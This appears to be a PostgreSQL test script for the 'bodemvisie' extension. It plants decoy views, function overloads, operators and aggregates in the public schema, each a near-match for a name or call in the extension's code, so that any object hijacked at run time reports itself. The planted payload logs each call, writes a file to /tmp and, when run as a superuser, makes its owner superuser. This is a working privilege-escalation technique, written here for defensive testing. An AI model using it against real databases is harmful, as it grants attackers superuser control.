-- Plant hostile objects in public, as a less-privileged role that may create
-- there (the database owner in PostgreSQL 15).  Run by
-- test/check-hostile-objects.sh as that role.  Every planted object, when it
-- runs, reports itself (WARNING "PWNED ..."), logs a row in public.bv_pwned
-- and, if it runs as a superuser, makes its owner superuser: what a real
-- attacker would do.
--
-- What is planted, derived from the catalog so that new code is covered
-- without editing this file:
--   1. a view for every relation name the extension's SQL and PL/pgSQL
--      bodies mention after FROM/JOIN/INTO/UPDATE/TABLE that is not a table
--      of the extension (temporary tables, CTE names, ...);
--   2. for every function name those bodies and the extension's views call,
--      overloads that differ from a real signature in one argument
--      (integer, bigint, numeric, double precision, real, text, varchar,
--      boolean, geometry): such an overload is an exact match for a call
--      that relies on an implicit cast, and would then win;
--      the same with trailing defaulted arguments left out (a call that
--      relies on a default), and for VARIADIC "any" functions (format, ...)
--      one or two extra arguments;
--   3. the same for the common operators.
SET client_min_messages = notice;

CREATE TABLE IF NOT EXISTS public.bv_pwned (wat text, als text, opdracht text, wanneer timestamptz DEFAULT now());
GRANT INSERT, SELECT ON public.bv_pwned TO PUBLIC;

CREATE OR REPLACE FUNCTION public.bv_pwn(wat text) RETURNS boolean
LANGUAGE plpgsql AS $pwn$
BEGIN
    RAISE WARNING 'PWNED: % ran as %', wat, current_user;
    INSERT INTO public.bv_pwned (wat, als, opdracht)
    VALUES (wat, current_user, pg_catalog.left(pg_catalog.current_query(), 400));
    -- Evidence that survives the caller's rollback: a file written with the
    -- caller's rights (only a superuser may).
    BEGIN
        EXECUTE pg_catalog.format('COPY (SELECT %L) TO %L', wat,
                                  '/tmp/bv_pwned_' || pg_catalog.current_database());
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
        EXECUTE pg_catalog.format('ALTER ROLE %s SUPERUSER',
            (SELECT proowner::pg_catalog.regrole FROM pg_catalog.pg_proc
              WHERE oid = 'public.bv_pwn(text)'::pg_catalog.regprocedure));
    END IF;
    RETURN true;
END
$pwn$;

CREATE TEMP TABLE bron AS
SELECT pg_catalog.lower(p.prosrc) AS tekst
  FROM pg_catalog.pg_proc p
  JOIN pg_catalog.pg_depend d ON d.classid = 'pg_catalog.pg_proc'::pg_catalog.regclass
                             AND d.objid = p.oid AND d.deptype = 'e'
  JOIN pg_catalog.pg_extension e ON e.oid = d.refobjid AND e.extname = 'bodemvisie'
 WHERE p.prolang IN (SELECT oid FROM pg_catalog.pg_language WHERE lanname IN ('sql', 'plpgsql'))
UNION ALL
SELECT pg_catalog.lower(pg_catalog.pg_get_viewdef(c.oid))
  FROM pg_catalog.pg_class c
  JOIN pg_catalog.pg_depend d ON d.classid = 'pg_catalog.pg_class'::pg_catalog.regclass
                             AND d.objid = c.oid AND d.deptype = 'e'
  JOIN pg_catalog.pg_extension e ON e.oid = d.refobjid AND e.extname = 'bodemvisie'
 WHERE c.relkind IN ('v', 'm');

-- 1. Views named like the relations the bodies mention but the extension lacks.
DO $plant$
DECLARE
    naam text;
    n integer := 0;
BEGIN
    FOR naam IN
        SELECT DISTINCT m[1]
          FROM pg_temp.bron, pg_catalog.regexp_matches(tekst,
               '(?:from|join|into|update|table|exists)\s+(?:pg_temp\.)?([a-z_][a-z0-9_]*)', 'g') AS m
         WHERE m[1] NOT IN (SELECT relname FROM pg_catalog.pg_class c
                              JOIN pg_catalog.pg_namespace s ON s.oid = c.relnamespace
                             WHERE s.nspname = 'public')
           AND m[1] NOT IN ('select', 'lateral', 'only', 'temp', 'temporary', 'if', 'not', 'stdin',
                            'unnest', 'generate_series', 'xmltable', 'rows', 'each')
    LOOP
        EXECUTE pg_catalog.format(
            'CREATE VIEW public.%I AS SELECT * FROM (VALUES (1)) v(x) WHERE public.bv_pwn(%L)',
            naam, 'view ' || naam);
        n := n + 1;
    END LOOP;
    RAISE NOTICE 'planted % views', n;
END
$plant$;

-- 2. Function overloads one implicit cast away from a real signature.
-- oidvector is zero-based; as a one-based oid[] it slices and compares simply.
CREATE FUNCTION pg_temp.args(v pg_catalog.oidvector) RETURNS oid[]
LANGUAGE sql IMMUTABLE AS $$ SELECT ('{' || pg_catalog.replace(v::text, ' ', ',') || '}')::oid[] $$;

CREATE TEMP TABLE soort (t regtype);
INSERT INTO pg_temp.soort
SELECT t::regtype FROM pg_catalog.unnest(ARRAY['integer', 'bigint', 'numeric', 'double precision',
       'real', 'text', 'character varying', 'boolean']) AS t;
INSERT INTO pg_temp.soort SELECT 'geometry'::regtype WHERE pg_catalog.to_regtype('geometry') IS NOT NULL;

DO $plant$
DECLARE
    r record;
    n integer := 0;
BEGIN
    FOR r IN
        WITH namen AS (
            SELECT DISTINCT m[1] AS naam
              FROM pg_temp.bron, pg_catalog.regexp_matches(tekst, '([a-z_][a-z0-9_]*)\s*\(', 'g') AS m),
        echt AS (
            SELECT p.proname, pg_temp.args(p.proargtypes) AS args, p.prorettype, p.proretset,
                   (p.pronargs - p.pronargdefaults)::integer AS nmin, p.pronargs::integer AS nmax
              FROM pg_catalog.pg_proc p JOIN namen ON namen.naam = p.proname
             WHERE p.prokind = 'f' AND p.pronargs > 0
               AND NOT EXISTS (SELECT 1 FROM pg_catalog.unnest(pg_temp.args(p.proargtypes) || p.prorettype) a(t)
                                 JOIN pg_catalog.pg_type y ON y.oid = a.t
                                WHERE y.typtype = 'p')
               AND p.provariadic OPERATOR(pg_catalog.=) 0::oid
               AND (p.proargmodes IS NULL OR 'o' <> ALL (p.proargmodes) AND 't' <> ALL (p.proargmodes))),
        varianten AS (
            SELECT DISTINCT ON (e.proname, v.args) e.proname, v.args, e.prorettype, e.proretset
              FROM echt e
             CROSS JOIN LATERAL pg_catalog.generate_series(CASE WHEN e.nmin < 1 THEN 1 ELSE e.nmin END, e.nmax) AS k(ariteit)
             CROSS JOIN LATERAL pg_catalog.generate_series(1, k.ariteit) AS i(pos)
             CROSS JOIN pg_temp.soort s
             CROSS JOIN LATERAL (SELECT (e.args[1:k.ariteit])[1:i.pos - 1] || s.t::oid
                                        || (e.args[1:k.ariteit])[i.pos + 1:k.ariteit] AS args) v
             WHERE s.t::oid <> e.args[i.pos]
               AND NOT EXISTS (SELECT 1 FROM pg_catalog.pg_proc q
                                WHERE q.proname = e.proname AND pg_temp.args(q.proargtypes) = v.args)),
        -- a call that leaves defaults out: the same types, fewer arguments
        verkort AS (
            SELECT DISTINCT ON (e.proname, e.args[1:k.ariteit]) e.proname, e.args[1:k.ariteit] AS args,
                   e.prorettype, e.proretset
              FROM echt e
             CROSS JOIN LATERAL pg_catalog.generate_series(e.nmin, e.nmax - 1) AS k(ariteit)
             WHERE k.ariteit > 0
               AND NOT EXISTS (SELECT 1 FROM pg_catalog.pg_proc q
                                WHERE q.proname = e.proname AND pg_temp.args(q.proargtypes) = e.args[1:k.ariteit])),
        -- VARIADIC "any" (format, concat, ...): one or two more arguments of a common type
        variadisch AS (
            SELECT DISTINCT p.proname, (pg_temp.args(p.proargtypes))[1:p.pronargs - 1] || s1.t::oid || s2.t AS args,
                   p.prorettype, p.proretset
              FROM pg_catalog.pg_proc p JOIN namen ON namen.naam = p.proname
             CROSS JOIN pg_temp.soort s1
             CROSS JOIN (SELECT NULL::oid[] AS t UNION ALL SELECT ARRAY[t::oid] FROM pg_temp.soort) s2
             WHERE p.provariadic = 'pg_catalog.any'::pg_catalog.regtype
               AND NOT EXISTS (SELECT 1 FROM pg_catalog.pg_proc q
                                WHERE q.proname = p.proname
                                  AND pg_temp.args(q.proargtypes)
                                      = (pg_temp.args(p.proargtypes))[1:p.pronargs - 1] || s1.t::oid || s2.t)),
        alle AS (
            SELECT proname, args, prorettype, proretset FROM varianten
            UNION SELECT proname, args, prorettype, proretset FROM verkort
            UNION SELECT proname, args, prorettype, proretset FROM variadisch)
        SELECT DISTINCT ON (proname, args) proname, prorettype::regtype AS ret, proretset,
               (SELECT pg_catalog.string_agg(a::regtype::text, ', ' ORDER BY o)
                  FROM pg_catalog.unnest(args) WITH ORDINALITY AS u(a, o)) AS sig
          FROM alle
    LOOP
        EXECUTE pg_catalog.format(
            'CREATE FUNCTION public.%I(%s) RETURNS %s%s LANGUAGE sql AS %L',
            r.proname, r.sig, CASE WHEN r.proretset THEN 'SETOF ' ELSE '' END, r.ret,
            pg_catalog.format('SELECT CASE WHEN public.bv_pwn(%L) THEN NULL::%s END',
                              r.proname || '(' || r.sig || ')', r.ret));
        n := n + 1;
    END LOOP;
    RAISE NOTICE 'planted % functions', n;
END
$plant$;

-- 3. Operators one implicit cast away from a real one.
DO $plant$
DECLARE
    o record;
    n integer := 0;
BEGIN
    FOR o IN
        WITH echt AS (
            SELECT op.oprname, op.oprleft, op.oprright, op.oprresult
              FROM pg_catalog.pg_operator op
             WHERE op.oprkind = 'b'
               AND op.oprname IN ('=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '%', '||',
                                 '&&', '~', '~~', '~~*', '~*', '@>', '<@', '<->', '~=')
               AND NOT EXISTS (SELECT 1 FROM pg_catalog.pg_type y
                                WHERE y.oid IN (op.oprleft, op.oprright, op.oprresult)
                                  AND (y.typtype = 'p'))),
        varianten AS (
            SELECT DISTINCT ON (e.oprname, v.l, v.r) e.oprname, v.l, v.r, e.oprresult
              FROM echt e
             CROSS JOIN pg_temp.soort s
             CROSS JOIN LATERAL (VALUES (s.t::oid, e.oprright), (e.oprleft, s.t::oid)) AS v(l, r)
             WHERE NOT EXISTS (SELECT 1 FROM pg_catalog.pg_operator q
                                WHERE q.oprname = e.oprname AND q.oprleft = v.l AND q.oprright = v.r))
        SELECT v.oprname, v.l::regtype AS links, v.r::regtype AS rechts, v.oprresult::regtype AS ret,
               pg_catalog.md5(v.oprname || v.l::text || '/' || v.r::text) AS sleutel
          FROM varianten v
    LOOP
        n := n + 1;
        EXECUTE pg_catalog.format(
            'CREATE OR REPLACE FUNCTION public.bv_pwn_op_%s(%s, %s) RETURNS %s LANGUAGE sql AS %L',
            o.sleutel, o.links, o.rechts, o.ret,
            pg_catalog.format('SELECT CASE WHEN public.bv_pwn(%L) THEN NULL::%s END',
                              'operator ' || o.links || ' ' || o.oprname || ' ' || o.rechts, o.ret));
        EXECUTE pg_catalog.format(
            'CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.bv_pwn_op_%s)',
            o.oprname, o.links, o.rechts, o.sleutel);
    END LOOP;
    RAISE NOTICE 'planted % operators', n;
END
$plant$;

-- 4. Concrete instances of polymorphic functions and aggregates (array_agg,
--    unnest, array_append, count("any"), ...): a concrete overload is an
--    exact match and beats the polymorphic original.
DO $plant$
DECLARE
    f record;
    n integer := 0;
BEGIN
    FOR f IN
        WITH namen AS (
            SELECT DISTINCT m[1] AS naam
              FROM pg_temp.bron, pg_catalog.regexp_matches(tekst, '([a-z_][a-z0-9_]*)\s*\(', 'g') AS m),
        poly AS (
            SELECT p.proname, p.prokind, pg_temp.args(p.proargtypes) AS args, p.prorettype, p.proretset
              FROM pg_catalog.pg_proc p JOIN namen ON namen.naam = p.proname
             WHERE p.prokind IN ('f', 'a') AND p.pronargs > 0 AND p.provariadic OPERATOR(pg_catalog.=) 0::oid
               AND (p.proargmodes IS NULL OR 'o' <> ALL (p.proargmodes) AND 't' <> ALL (p.proargmodes))
               AND EXISTS (SELECT 1 FROM pg_catalog.unnest(pg_temp.args(p.proargtypes)) a(t)
                            WHERE a.t::regtype::text IN ('anyelement', 'anynonarray', 'anycompatible',
                                  'anycompatiblenonarray', 'anyarray', 'anycompatiblearray', '"any"'))
               AND NOT EXISTS (SELECT 1 FROM pg_catalog.unnest(pg_temp.args(p.proargtypes) || p.prorettype) a(t)
                                 JOIN pg_catalog.pg_type y ON y.oid = a.t
                                WHERE y.typtype = 'p'
                                  AND a.t::regtype::text NOT IN ('anyelement', 'anynonarray', 'anycompatible',
                                      'anycompatiblenonarray', 'anyarray', 'anycompatiblearray', '"any"'))),
        inst AS (
            SELECT DISTINCT ON (p.proname, x.args) p.proname, p.prokind, x.args, p.proretset,
                   CASE WHEN p.prorettype::regtype::text IN ('anyarray', 'anycompatiblearray') THEN y.typarray
                        WHEN p.prorettype::regtype::text LIKE 'any%' THEN y.oid
                        ELSE p.prorettype END AS ret
              FROM poly p
             CROSS JOIN pg_temp.soort s
              JOIN pg_catalog.pg_type y ON y.oid OPERATOR(pg_catalog.=) s.t::oid
             CROSS JOIN LATERAL (
                 SELECT pg_catalog.array_agg(CASE WHEN a.t::regtype::text IN ('anyarray', 'anycompatiblearray') THEN y.typarray
                                                  WHEN a.t::regtype::text LIKE 'any%'
                                                    OR a.t::regtype::text = '"any"' THEN y.oid
                                                  ELSE a.t END ORDER BY a.o) AS args
                   FROM pg_catalog.unnest(p.args) WITH ORDINALITY a(t, o)) x
             WHERE NOT EXISTS (SELECT 1 FROM pg_catalog.pg_proc q
                                WHERE q.proname = p.proname AND pg_temp.args(q.proargtypes) = x.args))
        SELECT proname, prokind, proretset, ret::regtype AS ret,
               (SELECT pg_catalog.string_agg(a::regtype::text, ', ' ORDER BY o)
                  FROM pg_catalog.unnest(args) WITH ORDINALITY AS u(a, o)) AS sig,
               pg_catalog.md5(proname || '(' || args::text || ')') AS sleutel
          FROM inst
    LOOP
        n := n + 1;
        IF f.prokind = 'f' THEN
            EXECUTE pg_catalog.format(
                'CREATE FUNCTION public.%I(%s) RETURNS %s%s LANGUAGE sql AS %L',
                f.proname, f.sig, CASE WHEN f.proretset THEN 'SETOF ' ELSE '' END, f.ret,
                pg_catalog.format('SELECT CASE WHEN public.bv_pwn(%L) THEN NULL::%s END',
                                  f.proname || '(' || f.sig || ')', f.ret));
        ELSE
            EXECUTE pg_catalog.format(
                'CREATE FUNCTION public.bv_pwn_sf_%s(%s, %s) RETURNS %s LANGUAGE sql AS %L',
                f.sleutel, f.ret, f.sig, f.ret,
                pg_catalog.format('SELECT CASE WHEN public.bv_pwn(%L) THEN NULL::%s END',
                                  'aggregate ' || f.proname || '(' || f.sig || ')', f.ret));
            EXECUTE pg_catalog.format(
                'CREATE AGGREGATE public.%I(%s) (SFUNC = public.bv_pwn_sf_%s, STYPE = %s)',
                f.proname, f.sig, f.sleutel, f.ret);
        END IF;
    END LOOP;
    RAISE NOTICE 'planted % concrete instances of polymorphic functions and aggregates', n;
END
$plant$;
